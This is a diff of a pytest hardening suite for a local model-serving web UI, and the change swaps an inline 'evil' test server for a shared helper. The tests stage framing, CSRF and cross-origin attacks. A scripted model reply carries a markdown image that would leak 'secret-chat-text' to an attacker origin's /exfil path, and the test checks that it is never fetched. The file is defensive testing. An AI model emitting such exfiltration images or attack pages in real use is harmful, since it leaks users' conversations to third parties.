@@ -14,7 +14,6 @@ import sys
 import threading
 import time
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import httpx
 import psutil
@@ -25,54 +24,23 @@ from selenium.webdriver.common.keys import Keys
 from tests.harness.app_process import app_env, module_app, running_app
 from tests.harness.browser import find_marked, wait_for
 from tests.harness.models import build_scripted
+from tests.harness.page_site import PageSite
 
 YAML = {"Content-Type": "application/yaml"}
 JSON_HEADER = {"Content-Type": "application/json"}
 
 
-class EvilSite:
-    """A page on another origin (http://localhost:PORT) that records every request it receives."""
-
-    def __init__(self) -> None:
-        self.pages: dict[str, str] = {}
-        self.requests: list[str] = []
-        site = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:  # noqa: N802 - http.server's name
-                site.requests.append(self.path)
-                body = site.pages.get(self.path.split("?")[0], "").encode()
-                self.send_response(200 if body else 404)
-                self.send_header("Content-Type", "text/html")
-                self.send_header("Content-Length", str(len(body)))
-                self.end_headers()
-                self.wfile.write(body)
-
-            def log_message(self, *_args: object) -> None:
-                return  # quiet: the test reads `requests`
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.port = self.server.server_address[1]
-        self.origin = f"http://localhost:{self.port}"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-
-
 @pytest.fixture(scope="module")
-def evil() -> Iterator[EvilSite]:
-    site = EvilSite()
+def evil() -> Iterator[PageSite]:
+    site = PageSite()
     yield site
     site.close()
 
 
 @pytest.fixture(scope="module")
-def app(hub_cache, tmp_path_factory, evil: EvilSite):
+def app(hub_cache, tmp_path_factory, evil: PageSite):
     root = tmp_path_factory.mktemp("hardening")
-    image_reply = ["Look", ": ", "![chart](", f"{evil.origin}/exfil?d=", "secret-chat-text", ")", " done"]
+    image_reply = ["Look", ": ", "![chart](", f"{evil.origin()}/exfil?d=", "secret-chat-text", ")", " done"]
     exfil_model = build_scripted(root / "exfil", image_reply)
     with module_app(root / "home", hub_cache.cache_dir) as app:
         for name, model in (("plain", hub_cache.repos["plain"]), ("exfil", str(exfil_model))):
@@ -103,9 +71,9 @@ def test_every_answer_forbids_framing_and_sets_a_csp(app) -> None:
     assert httpx.post(f"{app.url}/api/servers/plain/stop", timeout=30).status_code == 200
 
 
-def test_another_site_cannot_frame_the_ui(app, evil: EvilSite, chrome) -> None:
+def test_another_site_cannot_frame_the_ui(app, evil: PageSite, chrome) -> None:
     evil.pages["/frame.html"] = f'<iframe id="ui" src="{app.url}/servers" width="900" height="600"></iframe>'
-    chrome.get(f"{evil.origin}/frame.html")
+    chrome.get(f"{evil.origin()}/frame.html")
     frame = wait_for(lambda: chrome.find_element(By.ID, "ui"), what="iframe")
     time.sleep(1.0)  # the frame's navigation is refused by the browser, not by a timeout
     chrome.switch_to.frame(frame)
@@ -134,11 +102,11 @@ ws.onopen = () => { results.ws = "open"; }; ws.onerror = () => { results.ws = "e
 
 
 def test_a_page_of_another_local_program_cannot_change_anything(
-    app, evil: EvilSite, hub_cache, chrome
+    app, evil: PageSite, hub_cache, chrome
 ) -> None:
     assert httpx.post(f"{app.url}/api/servers/plain/stop", timeout=30).status_code == 200  # a known start
     evil.pages["/csrf.html"] = CSRF_PAGE % {"app": app.url, "model": hub_cache.repos["plain"]}
-    chrome.get(f"{evil.origin}/csrf.html")
+    chrome.get(f"{evil.origin()}/csrf.html")
     results = wait_for(lambda: (r := chrome.execute_script("return window.results")) and len(r) == 4 and r,
                        timeout=15, what="the page's requests")  # fmt: skip
     assert results["poll"] == "blocked", "socket.io must not hand its answer to another origin"
@@ -148,10 +116,10 @@ def test_a_page_of_another_local_program_cannot_change_anything(
     assert state_of(app, "plain") == "stopped"
 
 
-def test_origin_port_and_fetch_metadata_are_checked(app, evil: EvilSite) -> None:
+def test_origin_port_and_fetch_metadata_are_checked(app, evil: PageSite) -> None:
     body = json.dumps({"name": "pwned", "model": "x/y"})
     for headers in (
-        {"Origin": evil.origin},  # localhost, but another port: another program's page
+        {"Origin": evil.origin()},  # localhost, but another port: another program's page
         {"Origin": "http://127.0.0.1"},
         {"Origin": app.url, "Sec-Fetch-Site": "same-site"},  # a sibling origin, said by the browser
         {"Origin": app.url, "Sec-Fetch-Site": "cross-site"},
@@ -159,7 +127,7 @@ def test_origin_port_and_fetch_metadata_are_checked(app, evil: EvilSite) -> None
         refused = httpx.post(f"{app.url}/api/profiles", content=body, headers={**JSON_HEADER, **headers})
         assert refused.status_code == 403, headers
     polled = httpx.get(
-        f"{app.url}/_nicegui_ws/socket.io/?EIO=4&transport=polling", headers={"Origin": evil.origin}
+        f"{app.url}/_nicegui_ws/socket.io/?EIO=4&transport=polling", headers={"Origin": evil.origin()}
     )
     assert polled.status_code == 403 and "access-control-allow-origin" not in polled.headers
     as_text = httpx.post(f"{app.url}/api/profiles", content=body, headers={"Content-Type": "text/plain"})
@@ -211,7 +179,7 @@ def test_a_yaml_alias_bomb_is_refused_at_once_and_the_app_keeps_answering(app) -
 # --- 4. model output cannot phone home --------------------------------------------------------
 
 
-def test_a_remote_image_in_a_reply_is_a_link_never_fetched(app, evil: EvilSite, chrome) -> None:
+def test_a_remote_image_in_a_reply_is_a_link_never_fetched(app, evil: PageSite, chrome) -> None:
     evil.requests.clear()
     chrome.get(f"{app.url}/chat?server=exfil")
     box = wait_for(lambda: find_marked(chrome, "message-input"), what="composer")
@@ -230,9 +198,9 @@ def test_a_remote_image_in_a_reply_is_a_link_never_fetched(app, evil: EvilSite, 
         lambda: chrome.find_elements(By.CSS_SELECTOR, ".mlxui-remote-image"), timeout=20, what="image link"
     )
     link = chrome.find_element(By.CSS_SELECTOR, ".mlxui-remote-image")
-    assert link.get_attribute("href").startswith(f"{evil.origin}/exfil")
+    assert link.get_attribute("href").startswith(f"{evil.origin()}/exfil")
     assert "noreferrer" in link.get_attribute("rel")
-    assert not chrome.find_elements(By.CSS_SELECTOR, f'img[src^="{evil.origin}"]')
+    assert not chrome.find_elements(By.CSS_SELECTOR, f'img[src^="{evil.origin()}"]')
     time.sleep(0.5)
     assert not [r for r in evil.requests if r.startswith("/exfil")], "the image host was contacted"
     httpx.post(f"{app.url}/api/servers/exfil/stop", timeout=30)
